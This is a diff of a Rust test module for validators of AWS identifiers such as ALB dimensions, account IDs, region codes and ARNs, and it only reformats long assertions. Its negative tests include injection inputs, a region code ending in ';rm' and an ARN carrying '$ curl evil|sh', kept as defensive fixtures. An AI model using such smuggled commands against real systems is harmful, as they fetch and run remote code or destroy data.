@@ -87,8 +87,12 @@ mod tests {
     #[test]
     fn real_identifiers_pass() {
         assert!(is_lb_name("k8s-shop-checkout-6f1e2d3c4b"));
-        assert!(is_alb_dimension("app/k8s-shop-checkout-6f1e2d3c4b/50dc6c495c0c9188"));
-        assert!(is_target_group_dimension("targetgroup/k8s-shop-checkou-0a1b2c3d4e/6d0ecf831eec9f09"));
+        assert!(is_alb_dimension(
+            "app/k8s-shop-checkout-6f1e2d3c4b/50dc6c495c0c9188"
+        ));
+        assert!(is_target_group_dimension(
+            "targetgroup/k8s-shop-checkou-0a1b2c3d4e/6d0ecf831eec9f09"
+        ));
         assert!(is_account_id("111122223333"));
         for region in ["eu-west-1", "us-gov-west-1", "cn-north-1", "eusc-de-east-1"] {
             assert!(is_region_code(region), "{region}");
@@ -121,7 +125,9 @@ mod tests {
         }
         assert!(!is_account_id("11112222333a"));
         assert!(!is_region_code("eu-west-1;rm"));
-        assert!(!is_arn("arn:aws:sns:eu-west-1:111122223333:x\n$ curl evil|sh"));
+        assert!(!is_arn(
+            "arn:aws:sns:eu-west-1:111122223333:x\n$ curl evil|sh"
+        ));
         assert!(!is_arn("arn:evil:sns:eu-west-1:111122223333:x"));
         assert!(!is_arn("arn:aws:sns:eu-west-1 :111122223333:x"));
     }
